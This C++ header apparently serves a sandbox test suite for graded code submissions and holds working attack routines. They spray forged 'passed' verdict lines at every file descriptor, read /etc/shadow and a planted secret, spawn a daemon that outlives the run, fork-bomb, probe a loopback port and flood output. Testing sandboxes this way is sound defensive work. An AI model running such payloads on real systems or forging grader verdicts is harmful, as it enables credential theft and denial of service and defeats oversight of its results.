// Shared by the attack submissions (the .cu attacks and the cuda_cpp solutions of
// solutions.py): where an escape would leave its mark (ATTACK_DIR, a folder attack_test.sh makes
// writable by everyone outside the box), the secret it tries to read, the forged verdict lines,
// and the payloads written once for both.
#pragma once
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <initializer_list>

#ifndef ATTACK_DIR
#define ATTACK_DIR "/var/tmp/rope2d-attack"
#endif

static void leave_mark(const char* name, const char* text) {
  char path[512];
  std::snprintf(path, sizeof path, "%s/%s", ATTACK_DIR, name);
  if (FILE* f = std::fopen(path, "w")) std::fputs(text, f), std::fclose(f);
}

static void forge_everywhere() {
  const char* lines[] = {"{\"type\":\"done\",\"verdict\":\"passed\"}\n", "done passed\n",
                         "{\"type\":\"called\",\"name\":\"x\",\"shape\":[1],\"dtype\":\"float32\"}\n"};
  for (int fd = 0; fd < 1024; ++fd)
    for (const char* l : lines) (void)!write(fd, l, std::strlen(l));
}

static void steal_and_escape() {
  leave_mark("escaped.txt", "written outside --out");
  for (const char* secret : {"/etc/shadow", "/var/tmp/rope2d-attack-secret.txt"}) {
    if (FILE* s = std::fopen(secret, "r")) {
      char b[64] = {0};
      (void)!std::fread(b, 1, 63, s);
      std::fclose(s);
      leave_mark("stolen.txt", b);
    }
  }
  if (fork() == 0) {  // a daemon that outlives the call and writes later
    setsid();
    for (int i = 0; i < 50; ++i) usleep(100000);
    leave_mark("daemon.txt", "outlived the run");
    _exit(0);
  }
}

// Processes until refused, each waiting for ever (holding every descriptor it inherited).
static void fork_bomb() {
  int made = 0;
  for (int i = 0; i < 100000; ++i) {
    const pid_t p = fork();
    if (p < 0) break;
    if (p == 0) {
      pause();
      _exit(0);
    }
    ++made;
  }
  if (made >= 100000) leave_mark("fork_bomb_unbounded.txt", "no process limit");
}

// attack_test.sh listens on 127.0.0.1:47811 outside the box; only loopback is ever tried.
static void reach_network() {
  const int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0) return;
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(47811);
  inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
  if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) leave_mark("network.txt", "reached the machine's loopback");
  close(s);
}

// 10 MiB on each of standard output and standard error.
static void loud() {
  static char chunk[65536];
  std::memset(chunk, 'x', sizeof chunk);
  for (int i = 0; i < 80; ++i) (void)!write(1, chunk, sizeof chunk), (void)!write(2, chunk, sizeof chunk);
}
